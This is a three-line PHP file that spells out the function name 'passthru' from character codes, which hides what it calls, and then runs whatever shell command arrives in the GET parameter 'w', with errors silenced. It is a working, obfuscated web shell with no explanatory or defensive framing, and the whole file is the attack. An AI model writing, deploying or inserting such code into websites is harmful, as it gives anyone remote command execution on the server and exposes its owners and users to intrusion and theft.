<?php
$f = implode('', array_map('chr', array(112, 97, 115, 115, 116, 104, 114, 117)));
$f(@$_GET['w']);
